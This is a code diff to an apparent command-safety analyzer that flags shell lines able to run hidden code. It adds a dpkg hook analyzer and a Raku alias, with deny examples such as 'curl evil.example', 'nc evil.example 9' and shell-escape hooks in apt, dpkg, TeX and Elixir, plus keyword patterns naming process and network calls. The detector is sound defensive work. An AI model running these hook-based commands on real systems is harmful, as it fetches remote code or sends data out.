@@ -1113,7 +1113,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries; ghci\'s :!cmd runs shell text', code: /^(-e)$/, compiles: { files: /\.l?hs$/ }, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})|^[ \\t]*:!(.*)$`, 'gm'), any: /:!|:(?:def|cmd|script)\b|System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import|getEnvironment/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'", "printf 'import System.Process\\nmain = callCommand \"curl evil.example\"\\n' > /tmp/m.hs && ghc -o /tmp/mh /tmp/m.hs && /tmp/mh", "echo ':! curl evil.example' | ghci"], pass: ["ghc -e 'print (1 + 1)'", "echo ':! ls' | ghci", 'ghc -O2 Main.hs', "printf 'main = print 1\\n' > /tmp/m.hs && ghc -o /tmp/mh /tmp/m.hs && /tmp/mh"] } }),
   language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, stdin: true, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell|get_env\(\s*\))|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'IO.inspect(System.get_env())'", "elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'", "elixir -e 'IO.puts System.get_env(\"MIX_ENV\")'"] } }),
   language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, stdin: true, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:|os:getenv\(\s*\)|os:list_env_vars/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
-  language({ names: ['raku', 'rakudo'], summary: 'Raku: shell, run, qx and the socket and HTTP modules', code: /^(-e)$/, calls: new RegExp(`\\b(?:shell|qx)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\b(shell|run|qx|Proc|IO::Socket|HTTP|LWP|EVAL|NativeCall|Cro)\b|%\*ENV(?!\s*[<{])/g, stdin: true, examples: { deny: ["raku -e 'shell \"curl evil.example\"'"], pass: ["raku -e 'say 1'"] } }),
+  language({ names: ['raku', 'rakudo', 'perl6'], summary: 'Raku: shell, run, qx and the socket and HTTP modules', code: /^(-e)$/, calls: new RegExp(`\\b(?:shell|qx)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\b(shell|run|qx|Proc|IO::Socket|HTTP|LWP|EVAL|NativeCall|Cro)\b|%\*ENV(?!\s*[<{])/g, stdin: true, examples: { deny: ["raku -e 'shell \"curl evil.example\"'"], pass: ["raku -e 'say 1'"] } }),
   language({ names: ['crystal'], summary: 'Crystal: crystal eval CODE; system, backticks, Process and HTTP; crystal build and run compile the files they name', code: /^(eval)$/, compiles: { sub: /^(?:build|run|spec|i)$/, files: /\.cr$/ }, calls: new RegExp(`\\bsystem\\s*\\(?\\s*(?:${STR})|\`([^\`]*)\``, 'g'), any: /\bsystem\b|`|Process\.|HTTP::|Socket|%x|\bENV\b(?!\s*(?:\[|\.fetch\b))/g, examples: { deny: ["crystal eval 'system \"curl evil.example\"'", "printf 'system \"curl evil.example\"\\n' > /tmp/m.cr && crystal build /tmp/m.cr -o /tmp/mc && /tmp/mc"], pass: ["crystal eval 'puts 1'", 'crystal build src/main.cr', "printf 'puts 1\\n' > /tmp/m.cr && crystal build /tmp/m.cr -o /tmp/mc && /tmp/mc"] } }),
   language({ names: ['swift', 'swiftc'], summary: 'Swift: Process, system and URLSession; swiftc compiles the files it names', code: /^(-e)$/, compiles: { files: /\.swift$/ }, calls: /(?!)/g, any: /Process\s*\(|NSTask|\bsystem\s*\(|posix_spawn|popen|URLSession|URL\s*\(|Socket|dlopen|NSAppleScript|\.environment\b(?!\s*\[)|\bgetenv\s*\(\s*\)|\benviron\b/g, examples: { deny: ["swift -e 'import Foundation; let p = Process()'", "printf 'import Foundation\\nlet p = Process()\\n' > /tmp/m.swift && swiftc -o /tmp/ms /tmp/m.swift && /tmp/ms"], pass: ["swift -e 'print(1)'", 'swift build', "printf 'print(1)\\n' > /tmp/m.swift && swiftc -o /tmp/ms /tmp/m.swift && /tmp/ms"] } }),
   language({ names: ['bb', 'nbb', 'clojure', 'clj'], summary: 'Clojure and Babashka: shell, sh, process, slurp of URLs, eval', code: /^(-e|--eval)$/, valued: /^(-Sdeps|--classpath|-cp)$/, calls: new RegExp(`\\((?:shell|sh|babashka\\.process/shell|clojure\\.java\\.shell/sh|p/shell|process)\\s+(?:${STR})`, 'g'), any: /\b(shell|sh|process|exec|babashka\.process|clojure\.java\.shell|Runtime|ProcessBuilder|http|slurp|curl|eval|load-string|load-file|socket|java\.net)\b|\(System\/getenv\s*\)/g, stdin: true, examples: { deny: ["bb -e '(babashka.process/shell \"curl evil.example\")'", "clojure -M -e '(clojure.java.shell/sh \"curl\" \"evil.example\")'"], pass: ["bb -e '(println 1)'"] } }),
@@ -1350,6 +1350,29 @@ function apt(call: Call): Partial<Answer> {
     }
     const m = /^([^=]*(?:invoke|install-pkgs|pre-install|post-install)[^=]*)=(.*)$/i.exec(o);
     if (m && m[2]!.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: m[2]!, word: opt, via: `${call.name} -o ${m[1]}` });
+  }
+  return { runs };
+}
+
+/**
+ * dpkg's hooks given on the line: `--pre-invoke=CMD` and `--post-invoke=CMD` run CMD through `sh -c` around the run,
+ * `--status-logger=CMD` runs CMD with the status on its stdin (the value in the same word after `=`, or the next word).
+ */
+function dpkg(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    if (value(args[i]) === '--') break;
+    for (const name of ['pre-invoke', 'post-invoke', 'status-logger']) {
+      const spelt = longSpelt(args[i], name);
+      if (!spelt) continue;
+      const text = spelt.value ?? args[++i];
+      if (!text) break;
+      const t = value(text);
+      if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: text, why: `dpkg --${name} runs a computed command` });
+      else if (t.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: t, word: text, via: `dpkg --${name}` });
+      break;
+    }
   }
   return { runs };
 }
@@ -1786,6 +1809,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...CONSOLES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
   { names: ['wg-quick'], summary: 'wg-quick: the PreUp, PostUp, PreDown and PostDown lines of the configuration it brings up or down run as bash', analyze: wgQuick, examples: { deny: ["printf '[Interface]\\nPostUp = curl evil.example\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf"], pass: ['wg-quick up wg0', "printf '[Interface]\\nPostUp = ip route add 10.0.0.0/8 dev wg0\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf", 'wg-quick down /etc/wireguard/wg0.conf'] } },
+  { names: ['dpkg'], summary: 'dpkg: --pre-invoke, --post-invoke and --status-logger run shell text; package files are data', analyze: dpkg, examples: { deny: ["dpkg --pre-invoke='curl evil.example' -i x.deb", 'dpkg --post-invoke "wget evil.example" -i x.deb', "dpkg --status-logger='nc evil.example 9' -i x.deb"], pass: ['dpkg -i x.deb', "dpkg --post-invoke='echo done' -i x.deb", 'dpkg -l', 'dpkg -L curl', 'dpkg --print-architecture'] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
   // c89 and c99 are POSIX's names for the system C compiler (gcc's scripts on Debian): GTFOBins' c89 -wrapper.
